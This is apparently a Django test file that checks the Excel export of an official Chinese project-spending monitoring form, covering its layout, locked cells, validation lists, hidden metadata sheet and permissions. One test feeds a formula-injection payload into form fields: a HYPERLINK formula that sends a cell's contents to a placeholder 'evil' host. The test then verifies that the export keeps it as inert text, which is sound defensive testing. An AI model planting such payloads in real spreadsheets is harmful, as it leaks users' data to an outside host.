"""The official form as a workbook: its grid, its locks, and what hostile text becomes in it."""

import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation

from foundation.models import AuditEvent
from monitoring import exports, official_form
from monitoring.filling import Edit, save_cells
from monitoring.models import MonitoringTable
from projects.choices import FundSource, Level1, Level2, Sign
from tests.conftest import sign_in
from tests.factories import default_indicators, fill, make_line, make_table

pytestmark = pytest.mark.django_db


def book_of(*tables):
    related = ("project", "unit", "department", "cycle__rule_book")
    found = MonitoringTable.objects.select_related(*related).filter(pk__in=[table.pk for table in tables])
    return openpyxl.load_workbook(io.BytesIO(exports.form_workbook(found.order_by("pk"))))


def values(sheet):
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def column(sheet, letter):
    return [cell.value for cell in sheet[letter]]


def test_the_sheet_has_the_rows_of_the_official_form(city, table):
    fill(table, city.clerk)
    sheet = book_of(table).worksheets[0]
    rows = values(sheet)
    assert rows[0][0] == "项目支出绩效运行监控信息表（2022年1—6月）"
    assert rows[1][0] == "填报单位（盖章）：市公路中心"
    assert (rows[2][0], rows[2][1], rows[2][6], rows[2][7]) == (
        "项目名称", table.project.name, "项目编码", table.project.code,
    )  # fmt: skip
    assert rows[3][1] == "市交通运输局（219）"
    assert rows[5][:12] == [heading.format(month=6) for heading in official_form.FUND_HEADINGS]
    assert [row[0] for row in rows[6:15]] == ["年度资金总额", *official_form.SOURCE_ROWS.values()]
    assert rows[15][0] == "年度总体目标"
    assert rows[16][:12] == [heading.format(month=6) for heading in official_form.INDICATOR_HEADINGS]
    assert [row[0] for row in rows[20:23]] == ["存在问题", "整改措施", "有关建议"]
    assert [row[0] for row in rows[23:25]] == ["是否调整目标", "是否能完成年度目标"]
    assert rows[25][0].startswith("填报人：Zhang San")
    assert [row[12] for row in rows[17:20]] == ["K001", "K002", "K003"]
    assert sheet.column_dimensions["M"].hidden
    assert {"A1:L1", "A2:H2", "I2:L2", "B3:F3", "H3:L3", "B16:F16", "H16:L16"} <= {
        str(merged) for merged in sheet.merged_cells.ranges
    }


@pytest.mark.parametrize(
    ("cells", "changed", "note", "attainable"),
    [
        ({"attainable": "1"}, "否", None, "是"),
        (
            {"attainable": "0", "target_changed": "1", "target_change_note": "80 km instead of 100 km."},
            "是", "80 km instead of 100 km.", "否",
        ),
        ({"attainable": ""}, "否", None, None),
    ],
)  # fmt: skip
def test_the_change_of_target_and_whether_it_can_be_reached_have_their_place(
    city, table, cells, changed, note, attainable
):
    fill(table, city.clerk, **cells)
    rows = values(book_of(table).worksheets[0])
    assert (rows[23][1], rows[23][2], rows[23][3]) == (changed, "调整说明", note)
    assert rows[24][1] == attainable


def test_amounts_stand_in_ten_thousands_to_the_fen(city):
    table = make_table(city.road_unit, initial="1234567.89", change="-0.01", paid="345678.91")
    make_line(table.project, source=FundSource.TRANSFER, initial=Decimal("0.01"))
    sheet = book_of(table).worksheets[0]
    general = [cell.value for cell in sheet[8]]
    assert general[1:6] == [123.456789, -0.000001, 123.456788, 123.456788, 34.567891]
    assert [cell.value for cell in sheet[9]][1:6] == [0, 0, 0, 0, 0]  # a source without money is 0, not blank
    assert sheet["B7"].value == "=SUM(B8:B15)"


def test_formulas_carry_the_value_that_the_rules_give(city, filled_table):
    content = exports.form_workbook([_full(filled_table)])
    kept = openpyxl.load_workbook(io.BytesIO(content), data_only=True).worksheets[0]
    assert (kept["D7"].value, kept["F7"].value, kept["G7"].value) == (100, 50, 0.5)
    assert kept["K7"].value == "绿灯"


def _full(table):
    related = ("project", "unit", "department", "cycle__rule_book")
    return MonitoringTable.objects.select_related(*related).get(pk=table.pk)


def test_what_the_unit_types_is_open_and_all_else_locked(city, table):
    sheet = book_of(table).worksheets[0]
    assert sheet.protection.sheet
    open_cells = ["J5", "L5", "H8", "L7", "H16", "H18", "I18", "J18", "K18", "L18", "B21", "B22", "B23"]
    locked = ["B3", "H3", "B8", "D8", "F8", "G8", "H9", "C18", "D18", "E18", "G18", "B16"]
    assert [cell for cell in open_cells if sheet[cell].protection.locked] == []
    assert [cell for cell in locked if not sheet[cell].protection.locked] == []


def test_codes_keep_their_digits_and_levels_have_their_list(city):
    level = {
        "level1": Level1.EFFECT, "level2": Level2.SUSTAINABLE, "sign": Sign.LEVEL, "target_text": "建立机制",
        "unit": "", "weight": Decimal(40), "name": "Kept up",
    }  # fmt: skip
    table = make_table(city.road_unit, indicators=[*default_indicators()[1:], level])
    sheet = book_of(table).worksheets[0]
    assert isinstance(sheet["H3"].value, str)
    assert sheet["H3"].number_format == "@"
    lists = {str(each.sqref): each.formula1 for each in sheet.data_validations.dataValidation}
    assert "达成目标" in lists["H20"]
    assert "确定能" in lists["L18"]
    assert "J18" in lists


def test_hostile_text_stays_text(city, table):
    hostile = '=HYPERLINK("http://evil/?"&A1,"x")'
    cells = [
        "problems",
        "objective_progress",
        "indicator.K001.cause_text",
        "indicator.K001.actual",
        "manager",
    ]
    save_cells(table, [Edit(cell, hostile[:60]) for cell in cells], by=city.clerk)
    MonitoringTable.objects.filter(pk=table.pk).update(measures="@SUM(1)", suggestions="-2+3")
    sheet = book_of(table).worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                assert cell.value.startswith(("=SUM(", "=IF(")), cell.coordinate
    assert sheet["B21"].value.startswith("=HYPERLINK")
    assert sheet["B21"].number_format == "@"


def test_the_hidden_sheet_knows_what_the_file_was_drawn_from(city, table):
    book = book_of(table)
    meta = book[official_form.META_SHEET]
    assert meta.sheet_state == "veryHidden"
    facts = dict(row[:2] for row in meta.iter_rows(max_row=5, values_only=True))
    assert facts["template"] == official_form.TEMPLATE_VERSION
    assert facts["cycle"] == table.cycle.public_id
    row = [cell.value for cell in meta[8]]
    assert row[:2] == [table.project.code, table.public_id]
    known = {name: text for name, text in facts.items() if name != "checksum"}
    assert facts["checksum"] == exports.checksum(known, [row])


def test_sheets_get_names_that_excel_takes():
    names = ["a/b:c*d?[e]", "", "x" * 40, "X" * 40, "history", "填报说明", "'quoted'"]
    made = exports.sheet_names(names)
    assert len({name.lower() for name in made}) == len(names)
    assert all(0 < len(name) <= 31 for name in made)
    assert made[0] == "abcde"
    assert made[4] == "history(2)"
    assert made[6] == "quoted"


def test_the_form_is_chinese_whatever_the_reader_speaks(client, city, table):
    sign_in(client, city.clerk)
    with translation.override("en"):
        response = client.get(
            reverse("table_form_xlsx", args=[table.public_id]), headers={"accept-language": "en"}
        )
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert sheet["A18"].value == "产出指标"
    assert "attachment" in response["Content-Disposition"]
    assert AuditEvent.objects.filter(action="tables.exported").count() == 1


def test_a_department_gets_one_file_with_a_sheet_a_project(client, city, django_assert_max_num_queries):
    tables = [make_table(city.road_unit, name="同名项目"), make_table(city.bridge_unit, name="同名项目")]
    make_table(city.school_unit)
    address = reverse("department_forms_xlsx", args=[city.roads.pk, tables[0].cycle.public_id])
    sign_in(client, city.department)
    with django_assert_max_num_queries(25):
        response = client.get(address)
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["同名项目", "同名项目(2)", "填报说明", "_meta"]
    for name, status in (("clerk", 404), ("department2", 404), ("sysadmin", 404), ("performance", 200)):
        sign_in(client, city.people[name])
        assert client.get(address).status_code == status, name
